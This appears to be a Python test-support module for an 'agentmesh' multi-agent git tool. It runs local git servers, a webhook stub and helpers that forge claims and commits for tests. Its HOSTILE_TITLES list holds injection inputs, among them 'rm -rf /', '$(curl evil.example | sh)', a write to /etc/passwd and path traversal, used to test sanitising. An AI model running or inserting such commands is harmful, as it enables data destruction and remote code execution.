"""Real git servers and remotes for tests: bare repos, `git daemon`, smart HTTP.

Nothing here fakes git: remotes are real bare repositories, served over
file://, git:// (git daemon) and smart HTTP (git http-backend behind a tiny
threaded HTTP server on 127.0.0.1).
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from agentmesh.core.lease import Clock
from agentmesh.host.config import MeshPolicy, parse_mesh_policy

REPO = Path(__file__).resolve().parents[2]

GIT_ENV = {
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": "/dev/null",
    "GIT_AUTHOR_NAME": "test",
    "GIT_AUTHOR_EMAIL": "test@example.invalid",
    "GIT_COMMITTER_NAME": "test",
    "GIT_COMMITTER_EMAIL": "test@example.invalid",
}


def git(*args: str, cwd: Path | None = None, input: str | None = None, env: dict | None = None) -> str:
    """Run git for test set-up and inspection (independent of agentmesh's runner)."""
    result = subprocess.run(
        ["git", *args], cwd=cwd, input=input, text=True, capture_output=True,
        env={**os.environ, **GIT_ENV, **(env or {})}, timeout=60,
    )
    if result.returncode != 0:
        raise AssertionError(f"git {' '.join(args)} failed: {result.stderr}")
    return result.stdout.strip()


def make_remote(path: Path, files: dict[str, str] | None = None, *, mesh_yaml: str | None = None) -> Path:
    """A bare repository with one commit on main (HEAD -> main)."""
    git("init", "--bare", "--quiet", "--initial-branch=main", str(path))
    files = dict(files or {"README.md": "# test mesh\n"})
    if mesh_yaml is not None:
        files[".agentmesh/mesh.yaml"] = mesh_yaml
    work = path.with_name(path.name + ".seed")
    git("init", "--quiet", "--initial-branch=main", str(work))
    for name, text in files.items():
        target = work / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    git("add", "-A", cwd=work)
    git("commit", "--quiet", "-m", "initial", cwd=work)
    git("push", "--quiet", str(path), "main:refs/heads/main", cwd=work)
    return path


def remote_refs(path: Path, prefix: str = "refs/") -> dict[str, str]:
    out = git("for-each-ref", "--format=%(refname) %(objectname)", prefix, cwd=path)
    return dict(line.split(" ", 1) for line in out.splitlines()) if out else {}


def remote_items(path: Path) -> dict[int, dict]:
    """number -> the meta.json of every local-forge item on the remote, read with git plumbing (with its
    `number`)."""
    prefix = "refs/agentmesh/items/"
    numbers = {ref: int(ref[len(prefix):]) for ref in remote_refs(path, prefix)}
    return {number: {**json.loads(git("cat-file", "blob", f"{ref}:meta.json", cwd=path)), "number": number}
            for ref, number in numbers.items()}


def wait_for(condition, what: str, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextmanager
def closed_port():
    """A local port that refuses connections for the whole block: bound, so no parallel test can
    start a server on it, but never listening."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        yield sock.getsockname()[1]


def _wait_port(port: int, proc: subprocess.Popen | None = None, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc is not None and proc.poll() is not None:
            raise AssertionError(f"server exited early with {proc.returncode}")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2):
                return
        except OSError:
            time.sleep(0.05)
    raise AssertionError(f"nothing listening on port {port}")


@contextmanager
def git_daemon(base: Path):
    """`git daemon` with receive-pack enabled, serving base; yields git://127.0.0.1:PORT"""
    for attempt in range(3):  # a parallel test may take the free port before the daemon binds it
        port = free_port()
        proc = subprocess.Popen(
            ["git", "daemon", "--reuseaddr", "--export-all", "--enable=receive-pack", f"--base-path={base}",
             "--listen=127.0.0.1", f"--port={port}", str(base)],
            env={**os.environ, **GIT_ENV}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        try:
            _wait_port(port, proc)
            break
        except AssertionError:
            proc.kill()
            proc.wait(timeout=10)
            if attempt == 2:
                raise
    try:
        yield f"git://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@dataclass
class HttpLog:
    auth_headers: list[str]


@contextmanager
def git_http(base: Path, *, token: str | None = None):
    """Smart HTTP through `git http-backend`; yields (http://127.0.0.1:PORT, HttpLog).

    With token set, requests must carry HTTP Basic auth whose password is the
    token (as a forge would check); others get 401.
    """
    log = HttpLog([])

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def log_message(self, *args):  # keep test output quiet
            pass

        def _serve(self):
            header = self.headers.get("Authorization", "")
            log.auth_headers.append(header)
            if token is not None:
                expected = "Basic " + base64.b64encode(f"agent:{token}".encode()).decode()
                if header != expected:
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="test"')
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
            path, _, query = self.path.partition("?")
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            env = {
                **os.environ, **GIT_ENV,
                "GIT_PROJECT_ROOT": str(base), "GIT_HTTP_EXPORT_ALL": "1", "REMOTE_USER": "agent",
                "REQUEST_METHOD": self.command, "PATH_INFO": path, "QUERY_STRING": query,
                "CONTENT_TYPE": self.headers.get("Content-Type", ""), "CONTENT_LENGTH": str(len(body)),
                "REMOTE_ADDR": "127.0.0.1", "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
                "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
            }
            out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
            head, _, payload = out.partition(b"\r\n\r\n")
            status = 200
            headers = []
            for line in head.decode("latin-1").split("\r\n"):
                name, _, value = line.partition(":")
                if name.lower() == "status":
                    status = int(value.strip().split()[0])
                elif name:
                    headers.append((name, value.strip()))
            self.send_response(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        do_GET = do_POST = _serve

    with _serving(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as port:
        yield f"http://127.0.0.1:{port}", log


@contextmanager
def webhook_server(*, status: int = 200, delay: float = 0.0, path: str = "/hooks/T0/B0/s3cr3t-hook-path"):
    """A chat webhook on 127.0.0.1 (http.server in a thread) that keeps each POST's path, content type and
    JSON body, and answers `status` after `delay` seconds; yields (its URL, the list of requests)."""
    received: list[dict] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def log_message(self, *args):  # keep test output quiet
            pass

        def do_POST(self):
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            received.append({"path": self.path, "type": self.headers.get("Content-Type"), "raw": body,
                             "json": json.loads(body)})
            time.sleep(delay)
            self.send_response(status)
            self.send_header("Content-Length", "0")
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True  # a handler still sleeping does not hold up the test's end
    with _serving(server) as port:
        yield f"http://127.0.0.1:{port}{path}", received


@contextmanager
def _serving(server: ThreadingHTTPServer) -> Iterator[int]:
    """Serve in a daemon thread while the block runs; yields the port."""
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


class FakeClock:
    """An injectable observer clock (wall, monotonic, boot id) that tests move by hand."""

    def __init__(self, wall: float = 1_800_000_000.0, mono: float = 1000.0, boot_id: str = "boot-1"):
        self.wall, self.mono, self.boot_id = wall, mono, boot_id

    def __call__(self) -> Clock:
        return Clock(self.wall, self.mono, self.boot_id)

    def advance(self, seconds: float) -> None:
        self.wall += seconds
        self.mono += seconds


def make_store(remote_url: str, root: Path, agent: str, *, clock=None, policy: MeshPolicy | None = None,
               host: str | None = None, token: str | None = None):
    """A ClaimStore for one agent with its own state dir and cache clone, as on its own host."""
    from agentmesh.git.cache import CacheClone
    from agentmesh.git.run import Git, ensure_askpass
    from agentmesh.host.state import StateDir, system_clock
    from agentmesh.refs.claims import ClaimStore

    state = StateDir(root / agent, remote_url).ensure()
    gitrun = Git(askpass=ensure_askpass(state.bin_dir), token=token, username="agent" if token else None,
                 author_name=agent, author_email=f"{agent}@test.invalid", timeout=30)
    cache = CacheClone(gitrun, state.cache_path, remote_url).ensure()
    return ClaimStore(cache, state, policy or MeshPolicy(), agent=agent, host=host or f"host-{agent}",
                      clock=clock or system_clock)


def short_lease_policy(seconds: int = 60, grace: int = 0) -> MeshPolicy:
    return parse_mesh_policy(f"lease: {{seconds: {seconds}, renew_seconds: 20, grace_seconds: {grace}}}\n")


# --- meshes of agents on the local forge ------------------------------------------------------

# Issue titles written to break whatever turns them into names: shells, git refs, paths.
HOSTILE_TITLES = (
    "Fix login; rm -rf / #",
    "$(curl evil.example | sh)",
    "`reboot`",
    "a && b || c | d > /etc/passwd",
    "../../etc/passwd",
    "..",
    "refs/heads/main",
    "HEAD",
    "@{-1}",
    "branch.lock",
    "-rf --force",
    "foo//bar\\baz",
    "name with ~ ^ : ? * [ ] spaces",
    "\u202eevil\u202c reversed",  # bidi override
    "zero\u200bwidth\u200djoiner\ufeff",
    "tag\U000e0041\U000e0042chars",
    "\x00nul\x07bell\x1bescape\x7f",
    "Ünïcödé Çafé naïve résumé",
    "日本語のタイトル",
    "🚀🔥 emoji only 💥",
    "x" * 500,
    "word " * 100,
    "   ",
    "",
    "-",
    "___",
    "CAPS AND   Multiple---Dashes",
    "trailing dash at forty characters exactly-",
    "new\nline\rcarriage\ttab",
    "%2e%2e%2f encoded traversal",
)


def path_only_env() -> dict[str, str]:
    """The environment in-process agents give their executors and gates: PATH alone."""
    return {"PATH": os.environ["PATH"]}


def python_syntax_gate() -> dict:
    """A mesh.yaml gate that passes when every Python file of the checkout compiles."""
    check = "import pathlib; [compile(p.read_text(), str(p), 'exec') for p in sorted(pathlib.Path('.').rglob('*.py'))]"
    return {"name": "python syntax", "run": ["python3", "-c", check], "timeout_seconds": 60}


DEMO_BLOCK = "```agentmesh-demo path={path}\n{content}```\n"


def demo_body(path: str, content: str, extra: str = "") -> str:
    """An issue body the demo executor turns into a change of `path`."""
    return f"Please create `{path}`.\n\n{DEMO_BLOCK.format(path=path, content=content)}{extra}"


def local_forge_remote(path: Path, mesh_yaml: str = "", files: dict[str, str] | None = None) -> Path:
    """A bare repository initialised as a local forge (labels registry, one commit on main of a
    README, the mesh policy and `files`)."""
    from agentmesh.forge.local import init_repository
    from agentmesh.git.run import Git

    files = {"README.md": "# test mesh\n", **(files or {})}
    if mesh_yaml:
        files[".agentmesh/mesh.yaml"] = mesh_yaml
    init_repository(Git(), path, files)
    return path


def agent_mesh(remote: Path, root: Path, agent: str, *, clock=None, executor: dict | None = None,
               seats: int = 1, capabilities: tuple[str, ...] = (), env: dict | None = None):
    """A Mesh for one agent with its own state directory, as if on its own host."""
    from agentmesh.agent.mesh import Mesh
    from agentmesh.host.config import HostConfig
    from agentmesh.host.state import system_clock

    host = HostConfig.model_validate({
        "agent": agent, "host": f"host-{agent}", "remote": str(remote), "state_dir": str(root / agent),
        "executor": executor or {"kind": "demo"}, "seats": seats, "capabilities": list(capabilities),
    })
    return Mesh(host, env=env or {}, clock=clock or system_clock)


def agent_forge(mesh):
    from agentmesh.forge.local import LocalForge

    return LocalForge(mesh.cache, user=mesh.host.agent)


def collaborator_pull(remote: Path, work: Path, cache, *, agent: str, issue: int, path: str, content: str):
    """What someone with push access can do without any agent running: push a work branch of `agent`
    that writes `path` and open a PR with `agent`'s marker as `agent` (the local forge trusts the
    name it is given). `cache` is any cache clone of the remote (a LocalForge's)."""
    from agentmesh.core.markers import marker_text, pull_marker
    from agentmesh.forge.local import LocalForge

    git("clone", "--quiet", str(remote), str(work))
    branch = f"{agent}/{issue}-change"
    git("checkout", "--quiet", "-b", branch, cwd=work)
    target = work / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(content)
    git("add", "-A", cwd=work)
    git("commit", "--quiet", "-m", f"Change {path}\n\nAgentmesh-Agent: {agent}", cwd=work)
    git("push", "--quiet", "origin", branch, cwd=work)
    body = f"Closes #{issue}\n\n{marker_text(pull_marker(agent, issue, 'a' * 40))}\n"
    return LocalForge(cache, user=agent).create_pull(head=branch, base="main", title=f"Change {path}", body=body)


def branch_files(remote: Path, ref: str) -> dict[str, str]:
    """path -> content (stripped) of every file at `ref` in a bare repository."""
    names = git("ls-tree", "-r", "--name-only", ref, cwd=remote).splitlines()
    return {name: git("cat-file", "blob", f"{ref}:{name}", cwd=remote) for name in names}


def human_commit(remote: Path, files: dict[str, str], *, branch: str = "main", message: str = "human change",
                 sign_with: Path | None = None, executable: tuple[str, ...] = (), base: str | None = None) -> str:
    """A commit by a person (unsigned unless `sign_with` names an SSH key) that sets `files` on top of
    `branch` of a bare repository (on top of `base` when given: `branch` then need not exist yet; mode
    755 for the `executable` ones), pushed straight to it. Returns the new sha."""
    work = remote.with_name(remote.name + f".human-{secrets.token_hex(4)}")
    git("clone", "--quiet", "--branch", base or branch, str(remote), str(work))
    for name, text in files.items():
        target = work / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        target.chmod(0o755 if name in executable else 0o644)
    git("add", "-A", cwd=work)
    signing = ["-c", "gpg.format=ssh", "-c", f"user.signingKey={sign_with}"] if sign_with else []
    git(*signing, "commit", *(["-S"] if sign_with else []), "--quiet", "-m", message, cwd=work)
    git("push", "--quiet", "origin", f"HEAD:refs/heads/{branch}", cwd=work)
    return git("rev-parse", "HEAD", cwd=work)


def push_on_switch(remote: Path, work: Path, ref: str, message: str, *, sign_with: Path | None = None) -> str:
    """Someone with push access puts a commit of `message` on the empty tree on top of a switch branch
    (`agentmesh/halt`, `agentmesh/pause`): a fast-forward, signed only with `sign_with`. Returns its sha."""
    if not work.exists():
        git("clone", "--quiet", str(remote), str(work))
    git("fetch", "--quiet", "origin", f"+{ref}:refs/remotes/origin/switch", cwd=work)
    signing = ["-c", "gpg.format=ssh", "-c", f"user.signingKey={sign_with}"] if sign_with else []
    tree = git("hash-object", "-t", "tree", "-w", "--stdin", cwd=work, input="")
    commit = git(*signing, "commit-tree", *(["-S"] if sign_with else []), tree, "-p", "origin/switch", cwd=work,
                 input=message)
    git("push", "--quiet", "origin", f"{commit}:{ref}", cwd=work)
    return commit


def forged_claim(remote: Path, number: int, agent: str, branch: str) -> str:
    """A well-formed, unsigned claim of issue `number` whose trailers name `agent` and its work `branch`,
    written as `claim/<number>` straight into the bare repository, as anyone who can push could."""
    message = (f"claim: #{number} by {agent}\n\nAgentmesh-Issue: {number}\nAgentmesh-Agent: {agent}\n"
               f"Agentmesh-Host: host-{agent}\nAgentmesh-Nonce: 0123456789abcdef\nAgentmesh-Lease-Seconds: 1800\n"
               f"Agentmesh-Renewal: 0\nAgentmesh-Attempt: 1\nAgentmesh-Work-Branch: {branch}\n")
    forged = git("commit-tree", git("rev-parse", "main^{tree}", cwd=remote), "-p", "main", cwd=remote, input=message)
    git("update-ref", f"refs/heads/claim/{number}", forged, cwd=remote)
    return forged


def roster_yaml(meshes, maintainers: list[dict] | None = None, logins: dict[str, str] | None = None) -> str:
    """The roster text listing these agents' (Mesh objects') public keys, and forge logins by agent name."""
    import yaml

    logins = logins or {}
    agents = [{"name": m.host.agent, "key": m.public_key.line,
               **({"login": logins[m.host.agent]} if m.host.agent in logins else {})} for m in meshes]
    return yaml.safe_dump({"agents": agents, "maintainers": maintainers or []}, sort_keys=False)


def load_benchmark(name: str):
    """A script of benchmarks/ (not a package) as a module, so tests keep it from rotting."""
    import importlib.util
    import sys

    spec = importlib.util.spec_from_file_location(f"benchmarks_{name}", REPO / "benchmarks" / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up there
    spec.loader.exec_module(module)
    return module


JOURNALS = "refs/heads/agentmesh/journals/"


def journal_entries(remote: Path, *, refs: tuple[str, ...] = ()) -> list:
    """Every journal entry on the remote, read with git plumbing: each writer's branch (its own directory
    only, as readers do), then the legacy `refs` given (every agent's directory)."""
    from agentmesh.core.memory import parse_journal

    found = []
    for ref in [*remote_refs(remote, JOURNALS), *refs]:
        writer = ref.removeprefix(JOURNALS) if ref.startswith(JOURNALS) else "*"
        if ref not in remote_refs(remote, ref):
            continue
        for name in git("ls-tree", "-r", "--name-only", ref, "--", "ai-memory/agents/", cwd=remote).splitlines():
            if writer in ("*", name.split("/")[2]):
                found += parse_journal(git("cat-file", "blob", f"{ref}:{name}", cwd=remote))
    return found
